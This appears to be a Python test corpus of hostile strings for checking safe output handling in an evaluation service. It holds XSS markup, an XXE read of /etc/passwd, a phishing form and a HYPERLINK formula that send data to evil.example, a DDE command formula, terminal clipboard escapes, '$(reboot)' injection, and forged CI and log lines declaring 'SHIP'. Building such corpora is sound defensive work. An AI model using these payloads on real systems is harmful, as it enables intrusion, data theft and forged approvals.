"""Texts that mean harm wherever something obeys them: pages, terminals, spreadsheets, Markdown, XML, logs.

A model, a data set or a server may say any of them. Each is at most 300 characters, of at most seven lines, so that no
report cuts it.
"""

from __future__ import annotations

from itertools import product

_TAGS = ("script", "svg", "img", "iframe", "body", "style", "object", "embed", "base", "meta", "link", "form", "math")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin", "onclick")

MARKUP = [
    *(f"<{tag} src=http://evil.example/x href=//evil.example>alert(1)</{tag}>" for tag in _TAGS),
    *(f"<{tag} {handler}=alert(1)>" for tag, handler in product(("img src=x", "svg", "details open"), _HANDLERS)),
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</bdi></details></body></html><script>alert(1)</script>",
    "</title></bdi></td><iframe src=//evil.example>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "<!-- --> <![CDATA[x]]> <?php ?> </summary></details><details open>",
    "]]><script>alert(1)</script>",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<scr<script>ipt>alert(1)</script>",
    "<ScRiPt\x0c>alert(1)</sCrIpT>",
    "<\x00script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\ud83c<script>\udfff",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg/onload=alert(1)//",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='vbscript:x'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=token><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<img name=body><form id=document><input name=cookie>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&amp;lt;b&amp;gt;",
]
ATTRIBUTES = [
    *(f'"{handler}="alert(1)" x="' for handler in _HANDLERS),
    *(f"' {handler}=alert(1) x='" for handler in _HANDLERS),
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "` onmouseover=alert(1) `",
    '" style="background:url(//evil.example)',
    "x autofocus onfocus=alert(1)",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "url(http://evil.example/x)",
    "@import 'http://evil.example/x.css';",
    "}*{background:url(//evil.example)}",
    "expression(alert(1))",
]
MARKDOWN = [
    "[x](javascript:alert(1)) ![y](http://evil.example/p.png)",
    "[click](https://evil.example) ![x](https://evil.example/p.png) <https://evil.example>",
    "https://evil.example www.evil.example mail@evil.example",
    "@everyone @team please `merge` #1 GH-2",
    "`` ` ``` ```` \\` `\\",
    "```\n</details>\n\n# SHIP\n```text\n~~~~",
    "a | b \\| c || d\n|---|---|\n| x | y |",
    "\n\n## SHIP\n---\n> quoted\n1. one",
    "**SHIP** __SHIP__ *x* ~~y~~ $x$ :tada: &lt;b&gt; &#64;team",
    "   indented\n\tcode",
    "[ref]: https://evil.example 'x'",
    "![pixel][p]\n\n[p]: https://evil.example/p.png",
    "<details open><summary>SHIP</summary>",
    "::set-output name=decision::SHIP",
    "::error file=x::SHIP%0A::stop-commands::x",
    "##vso[task.complete result=Succeeded;]SHIP",
]
TEMPLATES = [
    "{{ 7 * 7 }}{% include 'x' %}{# x #}",
    "{{ 7*7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%s %d %(x)s %n {0} {x!r} {0.__class__}",
    "[bold red]SHIP[/bold red][/x][link=https://evil.example]x[/link]",
    "$(reboot) `reboot` ; reboot | reboot && reboot",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b[31mred\x1b]52;c;Zm9v\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07\x1b]1337;File=inline=1:AAAA\x07",
    "\x9b2J\x9d0;title\x9c",
    "\x1bP1$r\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\\x1bXx\x1b\\",
    "\x1b[2J\x1b[H\x1bc\x1b(0",
    "\x1b[6n\x1b[c\x1b[21t",
    "\x1b[?1049h\x1b[?25l\x1b[8m",
    "\x1b",
    "\x1b[",
    "\x1b]",
    "\rSHIP\x08\x08\x7f",
    "\a\v\f\x0e\x0f",
    "\x00",
]
HIDDEN = [
    "\u202egnp.exe",
    "\u202egnp.exe\u202c\u2066x\u2069\u200b\u061c",
    "\u202egnp.exe\u202c\u2066x\u2069\u200b\u200e\u061c\ufeff",
    "\u2067\u2067\u2068 never closed",
    "pass\u200bword \u2060\u2061\u2062\u2063\u2064 \u00ad",
    "\U000e0041\U000e0042 tags",
    "\U000e0001\U000e0070\U000e007f",
    "\ufff9a\ufffab\ufffb",
    "\udfff\ud800\x00",
    "\ud800",
    "Z" + "\u0300\u0301\u0489" * 90,
    "\ufdfd" * 40,
    "\u200d\u200c" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
]
LINES = [
    "line one\nline two\u2028line three\x85four\x0bfive\x0csix",
    "one\r\ntwo\rthree",
    'done\n{"level": "info", "event": "job.state", "state": "done", "decision": "SHIP"}',
    'done\x85{"event": "forged"}\u2028{"event": "forged"}\u2029{"event": "forged"}',
    "\n\n\nSHIP: every gate holds\n",
    "id: 99\nevent: decision\ndata: {}\n\n",
    "x\r\nSet-Cookie: evalsvc=1\r\n\r\n<html>",
    '"}],"decision":"SHIP","x":[{"y":"',
    '</script><script>window.x={"a":"\u2028"}</script>',
    "\\u003cscript\\u003e\\u0022\\",
    "<failure/></testcase><testcase name='x'/>",
    'evalsvc_outcomes_total{arm="x"} 1\n# HELP forged',
]
FORMULAS = [
    '=cmd|"/c calc"!A1',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    '";=1+1;"',
    'a,b\n"c""',
]

TEXTS = [
    *MARKUP,
    *ATTRIBUTES,
    *ADDRESSES,
    *MARKDOWN,
    *TEMPLATES,
    *TERMINAL,
    *HIDDEN,
    *LINES,
    *FORMULAS,
]
